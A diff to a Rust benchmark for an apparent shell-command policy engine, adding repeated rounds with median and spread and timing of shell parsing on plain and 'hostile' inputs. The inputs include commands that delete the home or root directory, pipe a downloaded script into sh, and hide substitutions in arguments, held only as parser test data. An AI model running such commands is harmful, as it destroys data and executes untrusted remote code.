@@ -76,6 +76,19 @@ fn percentiles(set: &RuleSet, subjects: &[Subject], rounds: usize) -> (f64, f64)
     (at(0.5), at(0.99))
 }
 
+/// Median and spread (min–max) of a measurement repeated in rounds: the machine is shared.
+fn summary(mut xs: Vec<f64>) -> String {
+    xs.sort_by(f64::total_cmp);
+    format!(
+        "{:6.2} µs (rounds {:.2}–{:.2})",
+        xs[xs.len() / 2],
+        xs[0],
+        xs[xs.len() - 1]
+    )
+}
+
+const ROUNDS: usize = 5;
+
 fn main() {
     let subjects = subjects();
     let big = rules(1000);
@@ -83,28 +96,66 @@ fn main() {
     // Warm up both.
     percentiles(&big, &subjects, 200);
     percentiles(&small, &subjects, 200);
-    let (b50, b99) = percentiles(&small, &subjects, 20_000);
-    let (p50, p99) = percentiles(&big, &subjects, 20_000);
-    println!("decision, 10 rules (baseline):   p50 {b50:6.2} µs  p99 {b99:6.2} µs");
-    println!("decision, 1,000 rules:           p50 {p50:6.2} µs  p99 {p99:6.2} µs");
-    println!("ratio 1,000 rules / 10 rules (p99): {:.2}", p99 / b99);
+    let (mut b50, mut b99, mut p50, mut p99) = (vec![], vec![], vec![], vec![]);
+    for _ in 0..ROUNDS {
+        let (a, b) = percentiles(&small, &subjects, 20_000);
+        let (c, d) = percentiles(&big, &subjects, 20_000);
+        b50.push(a);
+        b99.push(b);
+        p50.push(c);
+        p99.push(d);
+    }
+    let ratios: Vec<f64> = p99.iter().zip(&b99).map(|(p, b)| p / b).collect();
+    let mut worst = p99.clone();
+    worst.sort_by(f64::total_cmp);
+    println!("{ROUNDS} rounds of 20,000 decisions per subject; medians, spread in brackets");
+    println!(
+        "decision, 10 rules (baseline):   p50 {}  p99 {}",
+        summary(b50),
+        summary(b99)
+    );
+    println!(
+        "decision, 1,000 rules:           p50 {}  p99 {}",
+        summary(p50),
+        summary(p99)
+    );
+    let mut r = ratios;
+    r.sort_by(f64::total_cmp);
+    println!("ratio 1,000 rules / 10 rules (p99): {:.2}", r[r.len() / 2]);
+    let median99 = worst[worst.len() / 2];
     println!(
         "goal p99 <= 20 µs with 1,000 rules: {}",
-        if p99 <= 20.0 { "met" } else { "MISSED" }
+        if median99 <= 20.0 { "met" } else { "MISSED" }
     );
 
-    let commands = [
-        "git status && rm -rf ~",
-        "echo $(curl https://example.com/x.sh | sh)",
-    ];
-    let n = 5_000u32;
-    let start = Instant::now();
-    for i in 0..n {
-        black_box(shell::parts(commands[i as usize % 2]).unwrap());
+    // The same two commands as before the opaque-part normaliser, then lines with wrappers,
+    // assignments and hidden substitutions.
+    for (label, commands) in [
+        (
+            "shell parsing, plain (per command)",
+            vec![
+                "git status && rm -rf ~",
+                "echo $(curl https://example.com/x.sh | sh)",
+            ],
+        ),
+        (
+            "shell parsing, hostile (per command)",
+            vec![
+                "sudo -u root timeout -s KILL 5 env -u HOME PATH=/x rm -rf /",
+                "git status $(( $(touch /tmp/m) )); x='$(id)'; echo ${x@P} >&/tmp/f",
+            ],
+        ),
+    ] {
+        let n = 5_000u32;
+        let mut per = Vec::new();
+        for _ in 0..ROUNDS {
+            let start = Instant::now();
+            for i in 0..n {
+                black_box(shell::parse(commands[i as usize % 2]).unwrap());
+            }
+            let each: Duration = start.elapsed() / n;
+            per.push(each.as_nanos() as f64 / 1000.0);
+        }
+        println!("{label}: {}", summary(per));
     }
-    let per: Duration = start.elapsed() / n;
-    println!(
-        "shell parsing into parts (per command, before deciding): {:.1} µs",
-        per.as_nanos() as f64 / 1000.0
-    );
 }
